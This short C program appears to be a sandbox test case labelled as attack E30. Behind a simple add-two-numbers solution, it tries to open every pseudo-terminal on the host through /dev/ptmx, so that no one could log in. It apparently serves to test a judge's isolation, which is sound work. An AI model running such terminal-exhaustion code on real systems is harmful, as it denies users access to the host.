/* @attack E30 take all the terminals that the host has */
/* @allowed accepted */
/* @why their number is the whole host's: with none left, nobody could log in to it */
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>
int main(void) {
    long long first, second;
    int opened = 0;
    for (int one = 0; one < 200; one++) opened += open("/dev/ptmx", O_RDWR) >= 0 || posix_openpt(O_RDWR) >= 0;
    opened += open("/dev/pts/ptmx", O_RDWR) >= 0;
    scanf("%lld %lld", &first, &second);
    if (opened) printf("%d opened\n", opened);
    else printf("%lld\n", first + second);
    return 0;
}
